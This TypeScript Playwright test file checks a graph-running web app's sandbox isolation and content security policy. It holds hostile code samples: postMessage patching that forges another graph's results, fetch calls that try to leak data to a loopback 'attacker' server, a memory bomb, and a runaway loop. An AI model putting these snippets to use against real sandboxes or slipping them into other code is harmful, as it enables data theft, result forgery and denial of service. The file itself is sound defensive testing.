import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import { expect, test, type Page } from '@playwright/test'
import { importGraph } from './graphFiles'

/**
 * Hostile graphs against the built app: each imported graph tries to reach another graph's
 * runs, a network it was denied, or the tab itself. A loopback "attacker" server counts every
 * request that reaches it.
 */

let server: Server
let hits: string[] = []
let attacker = ''

test.beforeAll(async () => {
  server = createServer((req, res) => {
    hits.push(req.url ?? '')
    res.writeHead(200, { 'access-control-allow-origin': '*', 'content-type': 'text/plain' })
    res.end('pong')
  })
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  attacker = `http://127.0.0.1:${(server.address() as AddressInfo).port}`
})
test.afterAll(() => new Promise<void>((resolve) => server.close(() => resolve())))

let pageErrors: string[] = []
let crashed = false
test.beforeEach(async ({ page }) => {
  hits = []
  pageErrors = []
  crashed = false
  page.on('pageerror', (e) => pageErrors.push(e.message))
  page.on('crash', () => (crashed = true))
  await page.goto('/')
  await expect(page.getByRole('button', { name: 'Run', exact: true })).toBeEnabled()
})

const status = (page: Page) => page.getByLabel('Run status')

function graph(name: string, code: string) {
  return {
    superstep: 1,
    name,
    state: [{ name: 'x' }, { name: 'log', reducer: 'append', default: [] }],
    nodes: [{ id: 'evil', code }],
    edges: [{ from: '__start__', to: 'evil' }],
  }
}

async function run(page: Page, expected: string): Promise<void> {
  await page.getByRole('button', { name: 'Run', exact: true }).click()
  await expect(status(page)).toHaveAttribute('data-phase', expected, { timeout: 20_000 })
}

async function openGraph(page: Page, name: string): Promise<void> {
  const list = page.getByRole('navigation', { name: 'Graphs and problems' })
  await list.getByRole('button', { name, exact: true }).first().click()
  await expect(page.getByRole('heading', { level: 1, name })).toBeVisible()
}

/** Opens the bundled counter, runs it on a new thread and reads its end state. */
/**
 * Opens the counter, runs it on a new thread, reads its state. One call may take longer than a
 * poll's default 10 s on a loaded 2-core machine (a run waits up to 20 s, see `run`; after a
 * memory bomb or a runaway loop the machine is still busy): its polls allow 30 s.
 */
async function runCounter(page: Page): Promise<unknown> {
  await openGraph(page, 'counter')
  await expect(page.getByRole('heading', { level: 1, name: 'counter' })).toBeVisible()
  await page.getByRole('button', { name: 'New thread' }).click()
  await run(page, 'done')
  return counterState(page)
}

async function counterState(page: Page): Promise<unknown> {
  await page.getByRole('tab', { name: 'Channels', exact: true }).click()
  const table = page.getByRole('table', { name: 'Channels' })
  const read = async (f: string) => {
    const cell = table.locator(`tr[data-channel="${f}"] td.value`)
    const tree = cell.locator('[data-json]')
    return JSON.parse(
      ((await tree.count()) ? await tree.getAttribute('data-json') : await cell.textContent()) ??
        'null',
    ) as unknown
  }
  return { count: await read('count'), log: await read('log') }
}

const honest = { count: 3, log: ['inc', 'inc', 'inc'] }

test("a graph that hijacks its sandbox's port cannot see or forge another graph's run", async ({
  page,
}) => {
  // It patches postMessage to forge every later reply, and keeps a timer alive to leak.
  const code = `(s) => {
    const post = MessagePort.prototype.postMessage
    MessagePort.prototype.postMessage = function (m, ...rest) {
      try {
        if (m && m.kind === 'ok') m.output = { count: 1000, log: ['forged'] }
        if (m && m.kind === 'value') m.value = '__end__'
      } catch {}
      return post.call(this, m, ...rest)
    }
    setInterval(() => { try { fetch('${attacker}/leak').catch(() => {}) } catch {} }, 20)
    return { x: 1 }
  }`
  await importGraph(page, graph('port thief', code))
  await run(page, 'done')
  await expect.poll(() => runCounter(page), { timeout: 30_000 }).toEqual(honest)
  // The forged values are nowhere, not even after a reload.
  await page.reload()
  await openGraph(page, 'counter')
  await expect.poll(() => counterState(page)).toEqual(honest)
  expect(hits).toEqual([])
  expect(pageErrors).toEqual([])
})

test('code evaluated with Network off never runs where the network is allowed', async ({
  page,
}) => {
  // B may use the network: one request per run.
  const online = graph(
    'online',
    `async (s) => ({ log: [await (await fetch('${attacker}/b')).text()] })`,
  )
  await importGraph(page, online)
  await page.getByLabel('Allow network').check()
  await run(page, 'done')
  expect(hits).toEqual(['/b'])
  // A, Network off: its code expression itself runs at compile time and leaves a timer.
  const offline = graph(
    'offline',
    `(() => {
      try { fetch('${attacker}/compile').catch(() => {}) } catch {}
      setInterval(() => { try { fetch('${attacker}/later').catch(() => {}) } catch {} }, 20)
      return async (s) => {
        try { await fetch('${attacker}/run') } catch {}
        return { log: ['a'] }
      }
    })()`,
  )
  await importGraph(page, offline)
  await run(page, 'done')
  // Back to B: it runs again in a fresh networked sandbox, where nothing of A lives.
  await openGraph(page, 'online')
  await expect(page.getByRole('heading', { level: 1, name: 'online' })).toBeVisible()
  await page.getByRole('button', { name: 'New thread' }).click()
  await run(page, 'done')
  await page.waitForTimeout(300)
  expect(hits).toEqual(['/b', '/b'])
  expect(pageErrors).toEqual([])
})

test('a memory bomb fails its node, not the tab; other graphs still run', async ({ page }) => {
  // Paced (32 MB a tenth of a second) so that the code-call limit stops it before V8's heap
  // limit does: a sandbox process that runs out of memory dies alone (it is out of the page's
  // process), but Playwright then reports the whole page as crashed and refuses to go on, so
  // an unpaced bomb, which on a fast machine reaches the heap limit first, cannot be followed.
  const code =
    '(s) => { const a = []; for (;;) { a.push(new Array(1 << 22).fill(1.5)); const t = Date.now(); while (Date.now() - t < 100) {} } }'
  await importGraph(page, graph('bomb', code))
  await run(page, 'failed')
  const error = page.getByLabel('Run error')
  await expect(error).toContainText('evil')
  await expect(error).toContainText('memory')
  expect(crashed).toBe(false)
  await expect.poll(() => runCounter(page), { timeout: 30_000 }).toEqual(honest)
  expect(pageErrors).toEqual([])
})

test('a runaway timer left by one graph is not blamed on the next', async ({ page }) => {
  const code = '(s) => { setTimeout(() => { while (true) {} }, 0); return { x: 1 } }'
  await importGraph(page, graph('spinner', code))
  await run(page, 'done')
  // At once, the innocent counter compiles and runs; its Run is never left disabled. (One
  // attempt may wait for its run up to 20 s, see `run`: on a loaded 2-core CI machine, with
  // the runaway loop holding a core until its sandbox goes, it took 11 s, past the poll's
  // default 10 s for one call.)
  await expect.poll(() => runCounter(page), { timeout: 30_000 }).toEqual(honest)
  await expect(page.getByLabel('Run error')).toHaveCount(0)
  await expect(page.getByRole('button', { name: 'Run', exact: true })).toBeEnabled()
  // The spinner itself runs again too: its next run gets a fresh sandbox.
  await openGraph(page, 'spinner')
  await page.getByRole('button', { name: 'New thread' }).click()
  await run(page, 'done')
  expect(pageErrors).toEqual([])
})

test('the page itself loads nothing from elsewhere, and the app breaks none of its policy', async ({
  page,
}) => {
  await page.evaluate(() => {
    const w = window as unknown as { __violations: string[] }
    w.__violations = []
    document.addEventListener('securitypolicyviolation', (e) =>
      w.__violations.push(`${e.violatedDirective} ${e.blockedURI}`),
    )
  })
  // The app at work: a run, the Export dialog (Monaco), a fresh sandbox per run.
  await expect.poll(() => runCounter(page), { timeout: 30_000 }).toEqual(honest)
  await page.getByRole('button', { name: 'Export', exact: true }).click()
  await expect(page.getByRole('dialog')).toBeVisible()
  await page.keyboard.press('Escape')
  const violations = () =>
    page.evaluate(() => (window as unknown as { __violations: string[] }).__violations)
  expect(await violations()).toEqual([])
  // What an injected script or a remote image in a hover would try.
  const fetched = await page.evaluate(
    (url) =>
      fetch(`${url}/page`).then(
        () => 'reached',
        () => 'refused',
      ),
    attacker,
  )
  expect(fetched).toBe('refused')
  await page.evaluate((url) => {
    const img = document.createElement('img')
    img.src = `${url}/img.png`
    document.body.append(img)
  }, attacker)
  // (Each is reported once per policy: the meta and, from the server, the header.)
  await expect
    .poll(async () => [...new Set(await violations())].sort())
    .toEqual([`connect-src ${attacker}/page`, `img-src ${attacker}/img.png`])
  expect(hits).toEqual([])
})
